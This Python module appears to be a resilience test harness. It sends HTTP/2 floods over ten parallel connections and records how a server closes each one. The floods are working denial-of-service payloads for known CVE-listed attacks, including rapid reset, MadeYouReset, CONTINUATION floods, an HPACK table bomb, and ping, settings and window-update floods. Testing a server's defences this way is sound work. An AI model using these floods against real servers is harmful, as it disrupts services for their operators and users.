"""S34: what a client can send without end, as bytes that are ready to leave. Each names what went wrong elsewhere.

    floods.py KINDS PORT SECONDS [secure]

Run as a program, it comes with ten connections at once, floods each in the same way, reads how each ends, and comes again
with the next way; a line of JSON says what became of them.
"""

import itertools
import json
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from frames import (
    ACK,
    COMPRESSION_ERROR,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    ENHANCE_YOUR_CALM,
    FLOW_CONTROL_ERROR,
    FRAME_BYTES_MAX,
    HEADERS,
    PADDED,
    PING,
    PROTOCOL_ERROR,
    SETTINGS,
    STREAM_CLOSED,
    Http2,
    frame,
    priority,
    reset,
    settings,
    window_update,
)

AT_ONCE = 10
COUNT = 1_000
"""Frames of a flood: five times what is allowed in ten seconds."""

SSE = ("accept", "text/event-stream")


@dataclass(frozen=True)
class Flood:
    """What is sent on one connection, and the codes that may end it."""

    make: Callable[[Http2], bytes]
    codes: tuple[int, ...] = (ENHANCE_YOUR_CALM,)


def heads(http: Http2, then: Callable[[int], bytes], *fields: tuple[str, str], count: int = COUNT, flags: int = END_HEADERS | END_STREAM) -> bytes:
    """Streams one after the other, and on each what comes of `then`."""
    head = http.head("GET", "/c/x", *fields)
    return b"".join(http.opening(head, flags=flags) + then(http.newest) for _ in range(count))


def body(http: Http2, frames: Callable[[int], bytes]) -> bytes:
    """A publish whose body is a flood."""
    return http.opening(http.head("POST", "/c/x"), flags=END_HEADERS) + frames(http.newest)


def endless_head(http: Http2, piece: bytes, count: int) -> bytes:
    """A head whose end never comes."""
    opening = http.opening(http.head("GET", "/c/x"), flags=END_STREAM)
    return opening + frame(CONTINUATION, http.newest, piece) * count


def bombs(http: Http2, count: int = 100) -> bytes:
    """RFC 7541 section 7.3: one long field in the table, and heads that name it ten thousand times, a byte each."""
    request = b"\x82\x86\x84\x01\x09localhost"
    # A literal that enters the table, which holds 4 096 bytes; from then on it is field 62.
    plant = request + b"\x40\x01x\x7f" + hpack_number(4_000 - 127) + b"y" * 4_000
    blocks = [plant, *[request + b"\xbe" * 10_000] * count]
    attack = b""
    for block in blocks:
        http.newest += 2
        http.expect(http.newest)
        attack += frame(HEADERS, http.newest, block, END_HEADERS | END_STREAM)
    return attack


def hpack_number(value: int) -> bytes:
    """The rest of an integer whose prefix is full."""
    rest = bytearray()
    while value >= 128:
        rest.append(value % 128 | 128)
        value //= 128
    return bytes([*rest, value])


FIELD = b"\x00\x01x\x7f" + hpack_number(1_000 - 127) + b"y" * 1_000
"""A literal field that does not enter the table."""

FLOODS = {
    # CVE-2023-44487, rapid reset; RUSTSEC-2023-0034, reset before it is accepted.
    "rapid_reset": Flood(lambda http: heads(http, reset)),
    "rapid_reset_of_streams": Flood(lambda http: heads(http, reset, SSE)),
    "rapid_reset_of_bodies": Flood(lambda http: heads(http, reset, flags=END_HEADERS)),
    # CVE-2025-8671, MadeYouReset: the server is made to reset. RUSTSEC-2024-0003.
    "no_window": Flood(lambda http: heads(http, lambda stream: window_update(stream, 0), SSE), (ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
    "a_window_that_overflows": Flood(lambda http: heads(http, lambda stream: window_update(stream, 0x7FFF_FFFF), SSE)),
    "on_itself": Flood(lambda http: heads(http, lambda stream: priority(stream, stream), SSE)),
    "data_on_half_closed": Flood(
        lambda http: heads(http, lambda stream: frame(DATA, stream, b"x"), SSE), (ENHANCE_YOUR_CALM, STREAM_CLOSED, PROTOCOL_ERROR)
    ),
    "a_head_on_half_closed": Flood(
        lambda http: heads(http, lambda stream: frame(HEADERS, stream, http.block([("x", "y")]), END_HEADERS | END_STREAM), SSE),
        (ENHANCE_YOUR_CALM, STREAM_CLOSED, PROTOCOL_ERROR),
    ),
    "malformed_heads": Flood(
        lambda http: heads(http, lambda stream: b"", ("te", "gzip")), (ENHANCE_YOUR_CALM, PROTOCOL_ERROR)
    ),
    "more_streams_than_allowed": Flood(lambda http: heads(http, lambda stream: b"", SSE)),
    # CVE-2024-27316 and its like, RUSTSEC-2024-0332: CONTINUATION without end.
    "empty_continuations": Flood(lambda http: endless_head(http, b"", 5_000), (ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
    "short_continuations": Flood(
        lambda http: endless_head(http, b"\x00\x01x\x01y", 5_000), (ENHANCE_YOUR_CALM, PROTOCOL_ERROR, COMPRESSION_ERROR)
    ),
    "full_continuations": Flood(
        lambda http: endless_head(http, FIELD * (FRAME_BYTES_MAX // len(FIELD)), 300),
        (ENHANCE_YOUR_CALM, PROTOCOL_ERROR, COMPRESSION_ERROR),
    ),
    # CVE-2019-9512, CVE-2019-9515: what has to be answered.
    "pings": Flood(lambda http: frame(PING, payload=b"flooding") * COUNT),
    "pongs": Flood(lambda http: frame(PING, payload=b"flooding", flags=ACK) * COUNT),
    "settings": Flood(lambda http: settings({3: 100}) * COUNT),
    "empty_settings": Flood(lambda http: settings() * COUNT),
    "settings_acks": Flood(lambda http: frame(SETTINGS, flags=ACK) * COUNT, (ENHANCE_YOUR_CALM, PROTOCOL_ERROR)),
    # CVE-2019-9518, RUSTSEC-2026-0258: frames that hold nothing.
    "empty_data": Flood(lambda http: body(http, lambda stream: frame(DATA, stream) * COUNT)),
    "padding": Flood(
        lambda http: body(http, lambda stream: frame(DATA, stream, b"\xff" + b"\0" * 255, PADDED) * COUNT),
        (ENHANCE_YOUR_CALM, FLOW_CONTROL_ERROR),
    ),
    "empty_data_on_many_streams": Flood(
        lambda http: heads(http, lambda stream: frame(DATA, stream) * 10, flags=END_HEADERS, count=100)
    ),
    # CVE-2019-9513: priorities, which mean nothing here, and windows, which are to be earned.
    "priorities": Flood(lambda http: b"".join(priority(2 * n + 1, 2 * n + 3) for n in range(COUNT))),
    "priorities_of_one": Flood(lambda http: priority(1) * COUNT),
    "windows_of_the_connection": Flood(lambda http: window_update(0, 1) * COUNT),
    "windows_of_a_stream": Flood(lambda http: http.opening(http.head("GET", "/c/x", SSE)) + window_update(1, 1) * COUNT),
}


def flood(kind: str, server: object) -> list[Http2]:
    """Ten connections, each of them flooded."""
    attackers = [Http2(server) for _ in range(AT_ONCE)]
    for http in attackers:
        http.answers_pings = False
        http.push(FLOODS[kind].make(http), patience_s=0.2)
    return attackers


def end(http: Http2) -> str:
    """How a connection ended."""
    try:
        code = http.error()
    except TimeoutError:
        return "open"
    return "closed" if code is None else f"goaway {code}"


@dataclass(frozen=True)
class Door:
    """A server as a flooder knows it."""

    port: int
    secure: bool
    credentials: dict[str, str]


def main() -> None:
    kinds, port, seconds = sys.argv[1].split(","), int(sys.argv[2]), float(sys.argv[3])
    door = Door(port, "secure" in sys.argv, json.loads(sys.stdin.readline()))
    print("begins", flush=True)
    ends: dict[str, Counter[str]] = {kind: Counter() for kind in kinds}
    began = time.monotonic()
    for kind in itertools.cycle(kinds):
        if time.monotonic() - began > seconds and all(ends.values()):
            break
        for http in flood(kind, door):
            ends[kind][end(http)] += 1
            http.close()
    print(json.dumps(ends), flush=True)


if __name__ == "__main__":
    main()
